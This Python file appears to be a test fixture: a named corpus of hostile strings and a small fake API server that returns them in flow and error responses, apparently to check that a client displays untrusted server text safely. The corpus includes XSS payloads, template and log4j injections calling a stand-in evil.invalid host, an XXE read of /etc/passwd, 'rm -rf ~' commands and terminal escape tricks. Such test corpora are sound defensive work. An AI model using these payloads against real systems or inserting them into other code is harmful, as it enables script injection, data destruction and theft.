"""Texts that a server may answer with to be taken for something else, and an app that does so.

Each is named by what it attacks. None does harm where it is only shown.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import unquote

_HUGE = 1_000_000
_LARGE = 25_000  # of what costs more to be looked at

CORPUS: dict[str, str] = {
    # html: out of a text
    "script element": "<script>alert(1)</script>",
    "script without an end": "<script>alert(1)//",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image without its end": "<img src=x onerror=alert(1) ",
    "svg with a handler": "<svg onload=alert(1)>",
    "svg that hides a script": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mathml that moves elements": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object and embed": "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "form that posts elsewhere": "<form action=https://evil.invalid><button>Try now</button>",
    "input that takes the focus": "<input autofocus onfocus=alert(1)>",
    "link to a script": "<a href='javascript:alert(1)'>details</a>",
    "base of all links": "<base href='https://evil.invalid/'>",
    "refresh to elsewhere": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "style for the whole page": "<style>*{display:none}</style>",
    "link to a style": "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "names of the page's globals": "<a id=Jupyter></a><form name=location></form>",
    "custom element": "<x-foo onclick=alert(1) contenteditable>",
    "tag in capitals with a slash": "<ScRiPt/x>alert(1)</sCrIpT/y>",
    "tag with line ends": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "tag with a null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "tag after a broken one": "<<script>alert(1)//<</script>",
    "end of all tables": "</td></tr></tbody></table></div></div><h1>broken out</h1>",
    "end of the log": "</pre></div><h1>broken out</h1><pre>",
    "end of the title": "</p><p class='orchnb-note'>All is well.</p>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a style": "</style><img src=x onerror=alert(1)>",
    "end of a textarea": "</textarea><img src=x onerror=alert(1)><textarea>",
    "end of a document title": "</title><img src=x onerror=alert(1)>",
    "end of a noscript": "</noscript><img src=x onerror=alert(1)>",
    "all the rest is text": "<plaintext>",
    "all the rest is a comment": "<!-- ",
    "all the rest is an option": "<select><option>",
    "comment that ends oddly": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if true]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "doctype with an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    # html: out of an attribute
    "end of a quoted attribute": '"><script>alert(1)</script>',
    "end of a singly quoted one": "'><script>alert(1)</script>",
    "one more attribute": '" onmouseover="alert(1)" x="',
    "one more attribute, single": "' onmouseover='alert(1)' x='",
    "backtick as a quote": "`` onmouseover=alert(1)",
    "value of a style": "red;background:url(https://evil.invalid/x);position:fixed;inset:0",
    "expression in a style": "expression(alert(1))",
    # entities
    "entities decoded once": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities decoded twice": "&amp;lt;script&amp;gt;alert(1)",
    "entities by number": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "entities without an end": "&lt&#0000060script&#x3Ealert(1)",
    "entity of no character": "&#0;&#x1b;[31m&#x202e;&bogus;",
    "escapes of javascript": "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    # addresses
    "javascript address": "javascript:alert(document.domain)",
    "javascript address, disguised": "JaVa\tScRiPt\n:alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript address": "vbscript:msgbox(1)",
    "address of nobody's": "//evil.invalid/x",
    "address of a file": "file:///etc/passwd",
    "address with another's name": "https://api.prefect.cloud@evil.invalid/",
    # templates and formats
    "jinja expression": "{{7*7}}{{ ''.__class__.__mro__ }}",
    "jinja statement": "{% raw %}{% include '/etc/passwd' %}",
    "jinja comment": "{# not seen #}",
    "template literal": "${7*7}${alert(1)}",
    "erb": "<%= 7*7 %>",
    "angular": "{{constructor.constructor('alert(1)')()}}",
    "format of Python's": "{0} {self.__class__} %s %(x)s %n",
    "log4j": "${jndi:ldap://evil.invalid/a}",
    "magic and shell": "%run /tmp/x.py\n!rm -rf ~",
    # markup of notebooks
    "markdown link": "[details](javascript:alert(1)) ![x](https://evil.invalid/x.png)",
    "markdown fence": "```\n# heading\n```\n<b>bold</b>",
    "backticks": "`code` ``code``",
    "table of markdown": "a | b\n--|--\nc | d",
    "math in dollars": "costs $5 and $6, $$\\frac{1}{0}$$",
    "math that links": "$\\href{javascript:alert(1)}{x}$ $\\require{action}$",
    "math that covers the page": "\\(\\rule{1000em}{1000em}\\) \\[\\style{position:fixed}{x}\\]",
    "math environment": "\\begin{equation}\\def\\x{\\x\\x}\\x\\end{equation}",
    # JSON and strings
    "end of a JSON string": '"}], "text/html": "<script>alert(1)</script>", "x": [{"a": "',
    "widget's mime type": "application/vnd.jupyter.widget-view+json",
    "backslashes": "\\",
    "quotes of all kinds": "'\"`\u2018\u2019\u201c\u201d\u00ab\u00bb",
    # charsets
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong bytes read as latin-1": "\u00c0\u00bcscript\u00c0\u00be",
    "half of a shift-jis letter": "\u0083\u005c\u0022\u003e",
    "iso-2022-jp": "\x1b(J\x1b$B<script>\x1b(B",
    # Unicode
    "null": "a\x00b",
    "control characters": "".join(map(chr, range(32))) + "\x7f",
    "control characters of one byte": "".join(map(chr, range(0x80, 0xA0))),
    "bidi override": "invoice\u202egpj.exe\u202c",
    "bidi isolates": "\u2066\u2067\u2068never closed",
    "bidi marks": "\u200e\u200f\u061c",
    "bidi override that hides markup": "\u202e>tpircs<\u202c",
    "letters from right to left": "\u05e9\u05dc\u05d5\u05dd 1, 2 \u0645\u0631\u062d\u0628\u0627",
    "nothing to be seen": "\u200b\u200c\u200d\u2060\u00ad\u180e",
    "nothing but a letter that is none": "\u3164\uffa0\u2800",
    "byte order mark": "\ufeffname",
    "byte order mark, swapped": "\ufffename\uffff",
    "tags of Unicode": "".join(map(chr, range(0xE0020, 0xE0050))),
    "variation selectors": "x\ufe0f\U000e0100",
    "private use": "\ue000\U000f0000\U0010fffd",
    "lone surrogate": "a\ud800b",
    "surrogates in the wrong order": "\udc00\ud800",
    "pair of surrogates": "\ud83d\ude00",
    "flood of combining marks": "a" + "\u0301\u0489\u20e3" * 2000,
    "homoglyphs": "\u0440r\u0435f\u0435\u0441t",
    "full-width markup": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "letters that become markup": "\u2039script\u203a \ufe64img\ufe65 \u226e \u226f",
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "next line": "one\x85two",
    "form feed and vertical tab": "one\x0ctwo\x0bthree\x1cfour",
    "annotations between lines": "\ufff9a\ufffab\ufffb",
    "spaces of all kinds": "a\u00a0\u1680\u2000\u2003\u202f\u205f\u3000b",
    "emoji of several": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    # terminals
    "colours": "\x1b[31mred\x1b[0m",
    "screen wiped": "\x1b[2J\x1b[H\x1bc",
    "cursor moved up": "\x1b[5A\x1b[2Kall is well",
    "alternate screen": "\x1b[?1049h",
    "title of the window": "\x1b]0;owned\x07",
    "title asked for": "\x1b[21t",
    "link of a terminal's": "\x1b]8;;javascript:alert(1)\x1b\\details\x1b]8;;\x1b\\",
    "clipboard of a terminal's": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "device control string": "\x1bP$q\x22p\x1b\\",
    "application program command": "\x1b_Ga=d\x1b\\",
    "escapes of one byte": "\x9b31mred\x9d0;owned\x9c\x90x\x9c",
    "escape without an end": "\x1b[",
    "escape of strings without an end": "\x1b]8;;x",
    "backspaces": "good\x08\x08\x08\x08evil",
    "carriage return": "evil\rgood",
    "carriage returns and line ends": "one\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
    "bell and shift out": "\x07\x0e\x0f",
    # lines
    "more rows": "x\n  Status  200 OK\n  Server says  all is well",
    "a sign of ours": "x\n✓ recovered",
    "only white space": " \t\r\n ",
    "nothing": "",
    # sizes
    "huge": "x" * _HUGE,
    "huge, of markup": "<b>" * _LARGE,
    "huge, of ampersands": "&" * _LARGE,
    "huge, of quotes": '"' * _LARGE,
    "huge, of spaces": " " * _LARGE,
    "huge, of line ends": "\n" * _LARGE,
    "huge, of escapes": "\x1b[31m" * _LARGE,
    "huge, without a break": "\u00a0" * _LARGE,
}
"""By what it attacks."""

FORBIDDEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
"""Categories of characters that are shown to nobody; of those a line end is the only one."""

NAMES = tuple(CORPUS)


def flow_run(text: str, number: int = 0) -> dict[str, Any]:
    """A flow run as the API answers, with this in every field that takes a text."""
    return {
        "id": f"00000000-0000-4000-8000-{number:012}",
        "flow_id": "00000000-0000-4000-8000-000000000000",
        "name": text,
        "state": {"type": text, "name": text, "message": text},
        "state_type": text,
        "state_name": text,
        "tags": [text, text],
        "parameters": {text: text, "deep": {text: [text]}},
        "idempotency_key": text,
        "work_queue_name": text,
        "work_pool_name": text,
        "labels": {text: text},
        "start_time": "2026-11-21T12:00:00Z",
        "total_run_time": 1.5,
        "unknown_to_us": text,
    }


def flow(text: str) -> dict[str, Any]:
    """A flow as the API answers, with this in every field that takes a text."""
    return {
        "id": "00000000-0000-4000-8000-000000000000",
        "name": text,
        "tags": [text, text],
        "labels": {text: text},
        "created": "2026-11-21T12:00:00Z",
    }


def refusal(text: str) -> dict[str, Any]:
    """The body of an error, with this in all that it says."""
    row = {"loc": ["body", text], "msg": text, "type": text}
    return {"exception_message": text, "detail": text, "exception_detail": [row, row]}


async def app(scope: Any, receive: Any, send: Any) -> None:
    """An API that answers with the text whose number is in the path (``/api/flows/name/NUMBER``)."""
    if scope["type"] == "lifespan":
        await receive()
        await send({"type": "lifespan.startup.complete"})
        await receive()
        await send({"type": "lifespan.shutdown.complete"})
        return
    path = unquote(scope["path"]).removeprefix("/api")
    asked = path.rpartition("/")[2]
    text = CORPUS[NAMES[int(asked)]] if asked.isdigit() else ""
    status = 404
    body: Any = refusal(text)
    headers = [(b"content-type", b"application/json")]
    if path == "/csrf-token":
        body = {"detail": "Not Found"}
    elif path == "/health":
        status, body = 200, True
    elif path == "/admin/version":
        status, body = 200, CORPUS["colours"] + CORPUS["screen wiped"]
    elif path == "/flow_runs/filter":
        status, body = 200, [flow_run(text) for text in CORPUS.values()]
    elif path.startswith("/busy/"):
        status = 503
        headers.append((b"retry-after", b"0.05"))
    elif path.startswith("/set/"):
        status, body = 200, {"status": text, "state": {"type": text, "name": text}}
    elif not path.startswith("/flows/name/"):
        status = 422
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": json.dumps(body).encode()})
